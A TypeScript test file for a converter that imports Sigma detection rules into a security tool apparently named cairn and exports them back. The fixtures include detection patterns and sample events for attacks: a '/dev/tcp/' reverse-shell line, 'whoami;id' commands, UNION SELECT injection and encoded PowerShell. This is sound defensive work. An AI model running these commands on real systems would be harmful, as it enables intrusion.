import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { LeadRule } from '../../clickhouse/tables/lead-rules.js';
import { compileMatcher, PreparedTarget } from '../match.js';
import { parseQuery } from '../parse.js';
import { ignoreAsciiCase } from '../regex.js';
import { convertSigma, type RuleDraft, type SigmaResult } from './convert.js';
import { NotExpressible, toSigma } from './export.js';
import { sigmaSampleDir } from '../../test/helpers/samples.js';

const SAMPLE_RULES = sigmaSampleDir();

function draftOf(result: SigmaResult | undefined): RuleDraft {
  if (result?.status !== 'imported') throw new Error(`not imported: ${JSON.stringify(result)}`);
  return result.draft;
}

function convertOne(yaml: string): RuleDraft {
  const results = convertSigma(yaml);
  return draftOf(results[results.length - 1]);
}

function skipReason(yaml: string): string {
  const [result] = convertSigma(yaml);
  if (result?.status !== 'skipped') throw new Error(`expected a skip, got ${JSON.stringify(result)}`);
  return result.reason;
}

const rule = (detection: string, logsource = 'category: webserver', extra = '') => `title: t\nid: 9a1c6d0e-0000-4000-8000-000000000001\n${extra}logsource:\n  ${logsource}\ndetection:\n${detection}\nlevel: high\n`;

/** Whether the converted rule matches an event with these fields and raw text. */
function fires(draft: RuleDraft, fields: Record<string, string | number | string[]>, raw = ''): boolean {
  return compileMatcher(parseQuery(draft.conditions.pattern))(new PreparedTarget({ id: 'x', source: 'test', raw, fields }));
}

const web = (fields: Record<string, string | number>) => ({ 'event.category': ['web'], ...fields });

describe('Sigma detection to a cairn pattern', () => {
  it('maps fields through the log source table, lists as OR, maps as AND', () => {
    const draft = convertOne(rule('  sel:\n    cs-method: POST\n    sc-status:\n      - 200\n      - 302\n  condition: sel'));
    expect(fires(draft, web({ 'http.request.method': 'post', 'http.response.status_code': 302 }))).toBe(true);
    expect(fires(draft, web({ 'http.request.method': 'GET', 'http.response.status_code': 302 }))).toBe(false);
    expect(fires(draft, { 'http.request.method': 'POST', 'http.response.status_code': 200 })).toBe(false); // not a web event
  });

  it('reads contains, startswith, endswith, all, wildcards and escapes', () => {
    const draft = convertOne(rule("  sel:\n    cs-uri-query|contains|all:\n      - 'cmd='\n      - 'exec'\n    c-useragent|startswith: 'curl/'\n    cs-uri-stem|endswith: '.php'\n    cs-host: 'adm?n.*'\n  condition: sel"));
    const hit = web({ 'url.original': '/x?a=1&cmd=exec', 'user_agent.original': 'curl/8.1', 'url.path': '/x/shell.php', 'url.domain': 'admin.example' });
    expect(fires(draft, hit)).toBe(true);
    expect(fires(draft, { ...hit, 'url.original': '/x?cmd=ls' })).toBe(false);
    expect(fires(draft, { ...hit, 'url.path': '/x/shell.php.bak' })).toBe(false);
    const escaped = convertOne(rule("  sel:\n    cs-uri: 'a\\*b'\n  condition: sel"));
    expect(fires(escaped, web({ 'url.original': 'a*b' }))).toBe(true);
    expect(fires(escaped, web({ 'url.original': 'axxb' }))).toBe(false);
  });

  it('reads re (with i and inline flags), cidr, exists, gt/gte/lt/lte, base64 and base64offset', () => {
    const re = convertOne(rule("  sel:\n    cs-uri|re|i: 'union.+select'\n  condition: sel"));
    expect(fires(re, web({ 'url.original': '/q?id=1 UNION ALL SELECT 2' }))).toBe(true);
    expect(fires(re, web({ 'url.original': '/q?id=1' }))).toBe(false);
    const inline = convertOne(rule("  sel:\n    cs-uri|re: '(?i)ipfs\\.io/[a-z]+'\n  condition: sel"));
    expect(fires(inline, web({ 'url.original': 'https://IPFS.IO/Abc' }))).toBe(true);
    const cidr = convertOne(rule("  sel:\n    c-ip|cidr: '10.0.0.0/8'\n    sc-status|gte: 500\n    sc-bytes|lt: 100\n    cs-referer|exists: false\n  condition: sel"));
    expect(fires(cidr, web({ 'source.ip': '10.2.3.4', 'http.response.status_code': 503, 'http.response.body.bytes': 10 }))).toBe(true);
    expect(fires(cidr, web({ 'source.ip': '11.2.3.4', 'http.response.status_code': 503, 'http.response.body.bytes': 10 }))).toBe(false);
    expect(fires(cidr, web({ 'source.ip': '10.2.3.4', 'http.response.status_code': 503, 'http.response.body.bytes': 10, 'http.request.referrer': 'x' }))).toBe(false);
    const b64 = convertOne(rule("  sel:\n    cs-uri-query|base64offset|contains: 'whoami'\n  condition: sel"));
    for (const prefix of ['', 'a', 'ab']) {
      const encoded = Buffer.from(`${prefix}whoami;id`).toString('base64');
      expect(fires(b64, web({ 'url.original': `/?q=${encoded}` })), prefix).toBe(true);
    }
  });

  it('reads keywords, |all keywords, 1 of, all of, them, not and parentheses', () => {
    const draft = convertOne(rule("  keywords:\n    '|all':\n      - 'bash -c'\n      - '/dev/tcp/'\n  filter_a:\n    - 'benign'\n  filter_b:\n    - 'harmless'\n  condition: keywords and not 1 of filter_*", 'product: linux'));
    expect(fires(draft, {}, 'x bash -c "sh >& /dev/tcp/1.2.3.4/80"')).toBe(true);
    expect(fires(draft, {}, 'x bash -c "sh >& /dev/tcp/1.2.3.4/80" benign')).toBe(false);
    expect(fires(draft, {}, 'x bash -c')).toBe(false);
    const all = convertOne(rule("  sel_a:\n    - alpha\n  sel_b:\n    - beta\n  condition: all of sel_* or (1 of them and not sel_a)", 'product: linux'));
    expect(fires(all, {}, 'alpha beta')).toBe(true);
    expect(fires(all, {}, 'alpha')).toBe(false);
  });

  it('keeps title, level, tags, id, author and log source', () => {
    const draft = convertOne(rule("  sel:\n    cs-method: PUT\n  condition: sel", 'category: webserver', "author: Jane Doe\ntags:\n  - attack.t1190\n  - attack.initial-access\n"));
    expect(draft).toMatchObject({ name: 't', severity: 'high', tags: ['attack.t1190', 'attack.initial-access'] });
    expect(draft.origin).toMatchObject({ format: 'sigma', id: '9a1c6d0e-0000-4000-8000-000000000001', author: 'Jane Doe', logsource: { category: 'webserver' }, license: 'DRL-1.1' });
  });

  it('skips, with the reason, what it cannot express whole', () => {
    expect(skipReason(rule("  sel:\n    cs-method|utf16: x\n  condition: sel"))).toMatch(/modifier \|utf16 is not supported/);
    expect(skipReason(rule("  sel:\n    NoSuchField: x\n  condition: sel"))).toMatch(/field NoSuchField has no cairn field/);
    expect(skipReason(rule("  sel:\n    cs-uri|re: '(?<=a)b'\n  condition: sel"))).toMatch(/regular expression/);
    expect(skipReason(rule("  sel:\n    cs-method: x\n  condition: sel | count() > 5"))).toMatch(/aggregation/);
    expect(skipReason(rule("  sel:\n    x: 1\n  condition: sel", 'product: windows\n  service: taskscheduler'))).toMatch(/not mapped/);
    expect(skipReason(rule("  sel:\n    x: 1\n  condition: sel", 'product: windows\n  service: security'))).toMatch(/field x has no cairn field/);
    expect(skipReason('title: [broken')).toMatch(/not valid YAML/);
  });

  it('maps Windows log sources: Sysmon names to ECS where the value is the same, other names to the event data', () => {
    const draft = convertOne(rule("  sel:\n    ParentImage|endswith: '\\WINWORD.EXE'\n    CommandLine|contains: ' -enc '\n    IntegrityLevel: Medium\n  condition: sel", 'product: windows\n  category: process_creation'));
    const sysmon = { 'winlog.channel': 'Microsoft-Windows-Sysmon/Operational', 'event.code': '1', 'process.parent.executable': 'C:\\Office\\WINWORD.EXE', 'process.command_line': 'powershell -enc AAA', 'winlog.event_data.IntegrityLevel': 'Medium' };
    expect(fires(draft, sysmon)).toBe(true);
    expect(fires(draft, { ...sysmon, 'event.code': '3' })).toBe(false);
    expect(fires(draft, { ...sysmon, 'winlog.channel': 'Security', 'event.code': '4688' })).toBe(true);
    const logon = convertOne(rule("  sel:\n    EventID: 4625\n    LogonType: 10\n  condition: sel", 'product: windows\n  service: security'));
    expect(fires(logon, { 'winlog.channel': 'Security', 'event.code': '4625', 'winlog.event_data.LogonType': '10' })).toBe(true);
    expect(fires(logon, { 'winlog.channel': 'System', 'event.code': '4625', 'winlog.event_data.LogonType': '10' })).toBe(false);
  });

  it('maps Zeek logs: the four-tuple and unchanged copies to ECS, the rest to zeek.<log>.<field>', () => {
    const draft = convertOne(rule("  sel:\n    operation|startswith: efs\n    id.resp_p: 445\n  condition: sel", 'product: zeek\n  service: dce_rpc'));
    expect(fires(draft, { 'event.dataset': 'zeek.dce_rpc', 'zeek.dce_rpc.operation': 'EfsRpcOpenFileRaw', 'destination.port': 445 })).toBe(true);
    expect(fires(draft, { 'event.dataset': 'zeek.smb_files', 'zeek.dce_rpc.operation': 'EfsRpcOpenFileRaw', 'destination.port': 445 })).toBe(false);
    const http = convertOne(rule("  sel:\n    uri|endswith: .exe\n    resp_mime_types|contains: dosexec\n  condition: sel", 'product: zeek\n  service: http'));
    expect(fires(http, { 'event.dataset': 'zeek.http', 'url.original': '/a.exe', 'zeek.http.resp_mime_types': ['application/x-dosexec'] })).toBe(true);
  });

  it('turns correlations into threshold, distinct-count and sequence rules', () => {
    const base = (name: string, word: string) => `title: ${name}\nname: ${name}\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    - '${word}'\n  condition: sel\n`;
    const corr = (type: string, rules: string[], condition: string) =>
      `title: corr\ncorrelation:\n  type: ${type}\n  rules:\n${rules.map((r) => `    - ${r}`).join('\n')}\n  group-by:\n    - hostname\n  timespan: 10m\n${condition}level: high\n`;
    const count = convertSigma([base('failed', 'Failed password'), corr('event_count', ['failed'], '  condition:\n    gt: 4\n')].join('---\n'));
    expect(count.map((r) => r.status)).toEqual(['skipped', 'imported']);
    expect(draftOf(count[1]).conditions).toMatchObject({ threshold: 5, window: '10m', group_by: 'host.hostname' });
    const distinct = draftOf(convertSigma([base('failed', 'Failed password'), corr('value_count', ['failed'], '  condition:\n    gte: 3\n    field: User\n')].join('---\n'))[1]);
    expect(distinct.conditions).toMatchObject({ threshold: 3, count_distinct: 'user.name' });
    const sequence = draftOf(convertSigma([base('a', 'Failed password'), base('b', 'Accepted password'), corr('temporal', ['a', 'b'], '')].join('---\n'))[2]);
    expect(sequence.conditions.sequence).toHaveLength(2);
    expect(sequence.conditions.ordered).toBeUndefined();
    const ordered = draftOf(convertSigma([base('a', 'Failed password'), base('b', 'Accepted password'), corr('temporal_ordered', ['a', 'b'], '')].join('---\n'))[2]);
    expect(ordered.conditions).toMatchObject({ ordered: true, window: '10m', group_by: 'host.hostname' });
    expect(ordered.conditions.sequence).toHaveLength(2);
  });
});

describe('ignoreAsciiCase', () => {
  it('spells case with classes, ranges included', () => {
    expect(ignoreAsciiCase('ab[a-c0-9]\\.x')).toBe('[aA][bB][a-c0-9A-C]\\.[xX]');
    expect(ignoreAsciiCase('[^a-z]')).toBe('[^a-zA-Z]');
  });
});

describe('export to Sigma', () => {
  const asRule = (draft: RuleDraft): LeadRule => ({ id: '0190aaaa-0000-7000-8000-000000000001', org_id: 'o', enabled: true, created_at: '', updated_at: '', ...draft });

  it('round-trips every sample rule that imports: export, import again, same conditions', () => {
    const files = fs.readdirSync(SAMPLE_RULES, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.yml'));
    let checked = 0;
    for (const file of files) {
      for (const result of convertSigma(fs.readFileSync(path.join(SAMPLE_RULES, file), 'utf8'))) {
        if (result.status !== 'imported') continue;
        const again = convertSigma(toSigma(asRule(result.draft)));
        const draft = draftOf(again[again.length - 1]);
        expect(draft.conditions, file).toEqual(result.draft.conditions);
        expect(draft.tags).toEqual(result.draft.tags);
        expect(draft.origin.id).toEqual(result.draft.origin.id);
        checked++;
      }
    }
    expect(checked).toBeGreaterThanOrEqual(70);
  });

  it('writes rules made in cairn under product: cairn, correlations over a base rule', () => {
    const rule: LeadRule = {
      ...asRule(convertOne(rule0())),
      origin: null,
      conditions: { source: 'auth', pattern: 'event.outcome:failure AND source.ip:10.0.0.0/8', threshold: 5, window: '5m', group_by: 'source.ip', count_distinct: 'user.name' },
    };
    const yaml = toSigma(rule);
    expect(yaml).toContain('product: cairn');
    expect(yaml).toContain('type: value_count');
    const results = convertSigma(yaml);
    expect(draftOf(results[results.length - 1]).conditions).toEqual({ ...rule.conditions, source: undefined, pattern: 'event.outcome:"failure" AND source.ip:10.0.0.0/8' });
  });

  it('writes an ordered sequence as temporal_ordered, and refuses first_seen, which Sigma cannot say', () => {
    const base = { ...asRule(convertOne(rule0())), origin: null };
    const ordered: LeadRule = { ...base, conditions: { pattern: 'event.outcome:*', sequence: ['event.outcome:failure', 'event.outcome:success'], ordered: true, window: '10m', group_by: 'source.ip', suppress: '1h' } };
    const yaml = toSigma(ordered);
    expect(yaml).toContain('type: temporal_ordered');
    const back = convertSigma(yaml);
    expect(draftOf(back[back.length - 1]).conditions).toMatchObject({ ordered: true, window: '10m', group_by: 'source.ip', sequence: ['event.outcome:"failure"', 'event.outcome:"success"'] });
    const firstSeen: LeadRule = { ...base, conditions: { pattern: 'event.outcome:success', first_seen: { field: 'source.ip', days: 30 }, group_by: 'user.name' } };
    expect(() => toSigma(firstSeen)).toThrow(NotExpressible);
  });
});

function rule0(): string {
  return rule('  sel:\n    cs-method: GET\n  condition: sel');
}
